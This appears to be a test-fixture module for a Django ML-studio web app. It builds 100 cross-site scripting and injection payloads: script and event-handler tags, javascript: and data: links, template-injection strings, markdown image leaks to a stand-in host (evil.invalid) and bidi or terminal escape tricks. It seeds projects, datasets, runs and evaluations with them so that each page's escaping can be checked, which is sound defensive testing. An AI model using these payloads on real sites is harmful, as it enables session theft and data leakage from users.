"""A hundred texts that try to become something else on a page, and a project that is full of them.

`make_project` puts them into everything that a person, a file or a model can name or say.
"""

import itertools
import json
from collections.abc import Iterator

from django.db.models.functions import Now
from django.utils import timezone

from studio.accounts.links import link_create
from studio.accounts.models import Membership, OneTimeLink, Project, Role, User
from studio.registry.models import Checkpoint
from studio.runs import lifecycle
from studio.runs.models import Plan, Run
from studio.runs.paths import attempt_dir
from studio.runs.states import RunState
from tests.web import factories, result_factory

HOST = "https://evil.invalid"
MARK = "pwned"
"""Set on `window`, or an attribute of an element, by a text that worked."""
_DO = f"window.{MARK}=1;alert(1)"
_SCRIPTS = (
    f"<script>{_DO}</script>",
    f"<ScRiPt {MARK}>{_DO}</sCrIpT>",
    f"<script {MARK} src={HOST}/x.js></script>",
    f"<script type=module {MARK}>import '{HOST}/m.js'</script>",
    f"</script><script {MARK}>{_DO}</script>",
    f"</script><!-- --><script {MARK}>{_DO}//",
    f"<!--<script>--><script {MARK}>{_DO}</script>",
    f"</title><script {MARK}>{_DO}</script>",
    f"</textarea><script {MARK}>{_DO}</script>",
    f"</style><script {MARK}>{_DO}</script>",
    f"</pre></code><script {MARK}>{_DO}</script>",
    f"</option></select><script {MARK}>{_DO}</script>",
    f"]]><script {MARK}>{_DO}</script>",
    f'<noscript><p title="</noscript><script {MARK}>{_DO}</script>">',
    f"<scr<script>ipt {MARK}>{_DO}</script>",
    f"%3Cscript%20{MARK}%3E{_DO}%3C/script%3E",
    f"&lt;script {MARK}&gt;{_DO}&lt;/script&gt;",
    f"&#60;script {MARK}&#62;{_DO}&#60;/script&#62;",
    f"\\u003cscript {MARK}\\u003e{_DO}\\u003c/script\\u003e",
    f"＜script {MARK}＞{_DO}＜/script＞",
)
_HANDLERS = tuple(
    text.replace("DO", _DO).replace("M_", MARK)
    for text in (
        '"><img M_ src=x onerror="DO">',
        "'><img M_ src=x onerror='DO'>",
        "<img M_ src=x onerror=DO>",
        "<img M_ src=`x`onerror=DO>",
        "<svg M_ onload=DO>",
        "<svg/M_/onload=DO>",
        "<svg M_><script>DO</script></svg>",
        "<svg M_><animate onbegin=DO attributeName=x dur=1s>",
        "<svg M_><use href='data:image/svg+xml,<svg id=x onload=DO>#x'/>",
        "<body M_ onload=DO>",
        "<input M_ autofocus onfocus=DO>",
        "<details M_ open ontoggle=DO>",
        "<video M_><source onerror=DO></video>",
        "<audio M_ src=x onerror=DO>",
        "<marquee M_ onstart=DO>",
        "<select M_ autofocus onfocus=DO>",
        "<iframe M_ onload=DO>",
        "<iframe M_ srcdoc='<script>parent.DO</script>'>",
        "<object M_ data=javascript:DO>",
        "<embed M_ src=javascript:DO>",
        "<math M_><mi xlink:href=javascript:DO>x",
        '" onmouseover="DO" M_="',
        "' onmouseover='DO' M_='",
        "` onmouseover=DO M_ `",
        '" autofocus onfocus="DO" x="',
        "x onfocus=DO autofocus M_",
        "<p M_ style='animation:x' onanimationstart=DO>",
        "<b M_ onmouseover=DO>国资委</b>",
        "<form M_><button formaction=javascript:DO>x</button>",
        "<style M_>@import 'HOST/x.css'</style>",
    )
)
_LINKS = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f" javascript:{_DO}",
    f"java\tscript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"vbscript:{_DO}",
    f"//evil.invalid/{MARK}",
    f"<a {MARK} href=javascript:{_DO}>x</a>",
    f"<a {MARK} href='{HOST}/'>x</a>",
    f"[x](javascript:{_DO})",
    f"![x]({HOST}/leak.png)",
    f"![x]({HOST}/leak?q=secret)",
    f"<{HOST}/{MARK}>",
    f"<base {MARK} href='{HOST}/'>",
    f"<meta {MARK} http-equiv=refresh content='0;url={HOST}'>",
    f"<link {MARK} rel=stylesheet href='{HOST}/x.css'>",
    f"<img {MARK} src={HOST}/p.gif>",
    f"<div {MARK} style='background:url({HOST}/b.png)'>",
    f"<form {MARK} action={HOST}><input name=a>",
    f"<iframe {MARK} src={HOST}></iframe>",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{{ csrf_token }}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__ }}",
    "%(name)s %s %d",
    "{0} {name!r}",
    "%%",
    "$ENV{HOME}",
    f"<template {MARK}>x</template>",
    f"<div {MARK} hx-get=/ hx-trigger=load>",
    f'<div {MARK} data-hx-on:load="{_DO}">',
)
_PLOTS = (
    f'<a {MARK} href="javascript:{_DO}">series</a>',
    f"<b>bold</b><br><i>{MARK}</i>",
    "<extra></extra>",
    f"%{{x}}<a href='{HOST}'>%{{y}}</a>",
    f"$\\href{{javascript:{_DO}}}{{x}}$",
    f'<span style="font-size:9em">{MARK}</span>',
    "%{customdata[0]}",
)
_LOOKS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068nested\u2069",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x1b[2J\x1b[1;1H",
    "a\u200b\u200d\ufeffb",
    "\u2028\u2029new",
    "Z\u0335\u0361\u0489a" * 30,
)
PAYLOADS = (*_SCRIPTS, *_HANDLERS, *_LINKS, *_TEMPLATES, *_PLOTS, *_LOOKS)
assert len(PAYLOADS) == 100, len(PAYLOADS)


class Texts:
    """Texts for fields: each call holds as many of the payloads as fit, and the next call goes on.

    Args:
        payloads: one, to see what it does alone, or all.
    """

    def __init__(self, payloads: tuple[str, ...]) -> None:
        self._payloads = payloads
        self._cycle: Iterator[str] = itertools.cycle(payloads)

    def line(self, limit: int = 200) -> str:
        """One line for a name; never empty."""
        text = next(self._cycle).replace("\n", " ")[:limit]
        while len(self._payloads) > 1 and len(text) < limit:
            following = next(self._cycle).replace("\n", " ")
            if len(text) + 1 + len(following) > limit:
                break
            text = f"{text} {following}"
        return text

    def everything(self) -> str:
        """All payloads, each on its line, and a very long word."""
        return "\n".join((*self._payloads, "x" * 3000))


def make_project(payloads: tuple[str, ...]) -> tuple[User, list[str]]:
    """A project full of the texts: an administrator of it, and addresses with queries to open."""
    texts = Texts(payloads)
    project = Project.objects.create(slug="alpha", name=texts.line(120))
    # The field's validator refuses such a name; one that is there anyway is shown as text.
    user = User(username=texts.line(150), language="en", is_superuser=True)
    user.set_unusable_password()
    user.save()
    Membership.objects.create(project=project, user=user, role=Role.ADMIN)
    link_create(
        purpose=OneTimeLink.Purpose.INVITE,
        created_by=user,
        project=project,
        role=Role.EXPERT,
        note=texts.line(120),
    )
    addresses = [*_data(project, user, texts), *_runs(project, user, texts)]
    addresses += _results(project, user, texts)
    Checkpoint.objects.update(
        name=texts.line(200),
        license_note=texts.line(500),
        facts={"architecture": texts.line(), "format": texts.line(), "dtype": texts.line()},
    )
    return user, addresses


def _data(project: Project, user: User, texts: Texts) -> list[str]:
    rows = [
        {
            "id": texts.line(60),
            "instruction": texts.everything(),
            "output": texts.line(),
            "lang": "zh",
            "input": texts.line(),
            "source": texts.line(),
            "license": texts.line(),
            "meta": {"doc_id": texts.line(), "category": texts.line()},
        },
        {"id": texts.line(60), "instruction": texts.line(), texts.line(60): texts.everything()},
        {"id": "x", "instruction": "", "output": texts.line(), texts.line(80): texts.line()},
    ]
    lines = "".join(f"{json.dumps(row)}\n" for row in rows)
    started = factories.start_import(
        project, user, lines, name="rows.jsonl", dataset_name=texts.line(120), note=texts.line()
    )
    factories.execute(started.run)
    header = ",".join('"' + texts.line(60).replace('"', '""') + '"' for _ in range(4))
    table = f"问题,答案,{header}\nQ,A,1,2,3,4\nQ,,1,2,3,4\n"
    other = factories.start_import(
        project, user, table, name="table.csv", dataset_name=texts.line(120), note=texts.line()
    )
    factories.execute(other.run)
    broken = factories.start_import(
        project, user, texts.everything(), name="x.csv", dataset_name=texts.line(110) + " 3"
    )
    factories.execute(broken.run)
    looked_at = [
        factories.start_preview(project, user, content, name=name, dataset_name=texts.line(110))
        for content, name in ((lines, "rows.jsonl"), (table, "table.csv"))
    ]
    for one in looked_at:
        factories.execute(one.run)
    for one in (started, other, broken):
        one.upload.file_name = texts.line(255)
        one.upload.save()
    base = "/p/alpha/datasets"
    found = [f"{base}/imports/{one.pk}/" for one in (started, other, broken)]
    found += [f"{base}/previews/{one.pk}/" for one in looked_at]
    for one in (started, other):
        version = getattr(one.run, "dataset_version", None)
        if version is not None:
            found += [f"{base}/versions/{version.pk}/", f"{base}/versions/{version.pk}/rows/0/"]
    return [f"{base}/", f"{base}/{started.dataset_id}/", *found]


def _runs(project: Project, user: User, texts: Texts) -> list[str]:
    checkpoint, imported = factories.make_checkpoint(project, user)
    failing = factories.make_run(project, user, name=texts.line(200))
    claim = lifecycle.claim(failing.pk, slot="machine/compute-0", queue="compute")
    assert claim is not None
    directory = attempt_dir(failing.pk, claim.attempt)
    directory.mkdir(parents=True)
    (directory / "stderr.log").write_text(f"{texts.everything()}\n")
    said = [
        {"kind": "RunStarted", "spec_kind": "evaluate", "spec_digest": failing.spec_digest},
        {
            "kind": "Progress",
            "stage": texts.line(90),
            "done": 1,
            "total": 2,
            "unit": texts.line(30),
        },
        {"kind": "MetricsLogged", "step": 1, "metrics": {texts.line(): 1.0, texts.line(): 2.0}},
        {"kind": "MetricsLogged", "step": 2, "metrics": {"loss": 1.0, texts.line(): 2.0}},
        {"kind": "CheckpointSaved", "step": 1, "path": texts.line(), "manifest_sha256": "a" * 64},
        {"kind": "ArtifactWritten", "output": texts.line(), "path": texts.line()},
        {"kind": "Warning", "code": texts.line(), "message": texts.everything()},
    ]
    at = timezone.now().isoformat()
    lines = [
        json.dumps(
            {
                "v": 1,
                "run_id": str(failing.pk),
                "attempt": 1,
                "seq": seq,
                "at": at,
                "kind": payload["kind"],
                "payload": payload,
            }
        ).encode()
        for seq, payload in enumerate(said, start=1)
    ]
    assert lifecycle.ingest_events(failing.pk, 1, lines)
    running = [f"/p/alpha/runs/{failing.pk}/"]
    assert lifecycle.finish_failed(
        failing.pk,
        1,
        code="data.empty",
        message=texts.everything()[:3000],
        is_retryable=False,
        exit_status=1,
    )
    Run.objects.filter(pk=failing.pk).update(error_code=texts.line(60))
    plan = factories.make_plan(project, user, name=texts.line(200))
    Run.objects.filter(pk=imported.pk).update(
        state=RunState.FAILED,
        error_code=texts.line(60),
        error_message=texts.everything(),
        finished_at=Now(),
    )
    return [
        *running,
        "/p/alpha/runs/",
        "/p/alpha/runs/plans/",
        f"/p/alpha/runs/plans/{plan.pk}/",
        f"/p/alpha/runs/launch/?from={failing.pk}",
        "/p/alpha/runs/launch/?kind=curriculum_sft",
        "/p/alpha/runs/recipe/",
        "/p/alpha/registry/",
        "/p/alpha/registry/lineage/",
        f"/p/alpha/registry/{checkpoint.pk}/",
        f"/p/alpha/registry/imports/{imported.pk}/",
    ]


def _results(project: Project, user: User, texts: Texts) -> list[str]:
    items = result_factory.domain_items("zh", 6)
    for number, item in enumerate(items):
        item |= {
            "id": f"{texts.line(60)}{number}",
            "instruction": texts.everything(),
            "input": texts.line(),
        }
        item["meta"] = {"category": texts.line(), "doc_id": texts.line()}
    said = [
        [texts.everything(), *(texts.line() + number for number in "12345")] for _ in ("A", "B")
    ]
    names = tuple(texts.line(80) for _ in range(3))
    first = result_factory.make_evaluation(
        project,
        user,
        name=texts.line(200),
        chosen=_choices(texts, names, seed=1),
        gauge=(0.9, 0.0),
        answered=result_factory.answer_samples(items, said[0]),
        definitions={texts.line(): texts.line()},
    )
    second = result_factory.make_evaluation(
        project,
        user,
        name=texts.line(200),
        chosen=_choices(texts, names, seed=2),
        gauge=(1.0, 0.1),
        answered=result_factory.answer_samples(items, said[1]),
        baseline=first,
        model="2" * 64,
    )
    for kind, digest in (("continual_pretrain", "1" * 64), ("curriculum_sft", "2" * 64)):
        result_factory.make_training(project, user, kind, digest, name=texts.line(200))
    plan = Plan.objects.create(
        project=project, name=texts.line(200), spec={}, spec_digest="f" * 64, created_by=user
    )
    benchmark = result_factory.make_benchmark(project, user, name=texts.line(200), plan=plan)
    results = benchmark.report["results"]
    renamed = {arm: f"{texts.line(80)} {arm}" for arm in results["arms"] if arm != "autoregressive"}
    for part in (results["arms"], results["losslessness"]["arms"]):
        for arm in list(part):
            if arm in renamed:
                part[renamed[arm]] = part.pop(arm)
    results["headline_arm"] = renamed["distilled"]
    benchmark.report["environment"] |= {
        "processor": texts.line(),
        "platform": texts.line(),
        "device": texts.line(),
        "packages": {texts.line(): texts.line()},
    }
    benchmark.report["code_version"] = texts.line()
    facts = {texts.line(): texts.line()}
    benchmark.report["outputs"] = {"model": {"path": "model", "digest": None, "facts": facts}}
    benchmark.save()
    pair = f"run={first.pk}&run={second.pk}"
    base = "/p/alpha"
    return [
        f"{base}/evaluations/",
        f"{base}/evaluations/retention/?{pair}",
        f"{base}/evaluations/text-overlap/?{pair}",
        f"{base}/evaluations/speedup/?run={benchmark.pk}",
        f"{base}/evaluations/published/",
        f"{base}/evaluations/rows/?run={first.pk}",
        f"{base}/evaluations/rows/?run={first.pk}&task=general_ability",
        f"{base}/comparisons/",
        f"{base}/comparisons/?{pair}",
        f"{base}/comparisons/samples/?{pair}",
        f"{base}/comparisons/sample/?{pair}",
        f"{base}/comparisons/sample/?{pair}&task=general_ability",
        f"{base}/comparisons/parameters/?{pair}",
        f"{base}/runs/{first.pk}/",
        f"{base}/runs/{benchmark.pk}/",
    ]


def _choices(texts: Texts, names: tuple[str, ...], *, seed: int) -> list[object]:
    made = result_factory.choices(12, accuracy=0.5, seed=seed, categories=names)
    changed = [
        one.__class__(
            **{field: getattr(one, field) for field in one.__slots__}
            | {
                "question": texts.everything(),
                "choices": tuple(texts.line() for _ in range(4)),
            }
        )
        for one in made[:2]
    ]
    return changed + made[2:]
